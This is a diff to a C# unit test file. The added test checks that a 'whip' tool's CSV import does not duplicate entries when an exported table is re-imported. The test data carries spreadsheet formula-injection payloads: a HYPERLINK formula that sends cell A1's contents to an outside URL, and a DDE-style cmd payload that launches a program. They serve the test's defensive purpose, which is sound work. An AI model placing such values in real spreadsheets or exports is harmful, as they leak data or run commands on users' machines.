@@ -43,6 +43,34 @@ public sealed class WhipTests(StarterEdition starter) : IDisposable
     }
 
     [Fact]
+    public async Task A_table_that_was_exported_is_imported_without_writing_anything_twice()
+    {
+        var id = await BeginAsync();
+        var first = await RunAsync(
+            "whip",
+            "import",
+            id,
+            Write(
+                "state,position,sure,who,note\n"
+                    + "Malawi,no,heard,\"=HYPERLINK(\"\"http://example.org/?x=\"\"&A1,\"\"ok\"\")\",\"@SUM(1+1)*cmd|' /C calc'!A0\"\n"
+                    + "Gambia,yes,heard,+41 22 000 00 00,-1+1\n"
+                    + "Benin,yes,heard,\"\t=1+1\",\"=2\"\n"
+                    + "Brazil,yes,told,'+1 said so,\"two\nlines\"\n"
+            )
+        );
+        Assert.Contains("4 commitments added", first.Output, StringComparison.Ordinal);
+        var table = (await RunAsync("whip", "show", id, "--csv")).Output;
+        Assert.Contains("'+41 22 000 00 00", table, StringComparison.Ordinal);
+        Assert.Contains("'+1 said so", table, StringComparison.Ordinal);
+        foreach (var mark in new[] { "", "\uFEFF" })
+            Assert.Contains(
+                "0 commitments added; 4 already there.",
+                (await RunAsync("whip", "import", id, Write(mark + table))).Output,
+                StringComparison.Ordinal
+            );
+    }
+
+    [Fact]
     public async Task Entries_are_withdrawn_and_their_words_erased_and_the_whole_deleted()
     {
         var id = await BeginAsync();
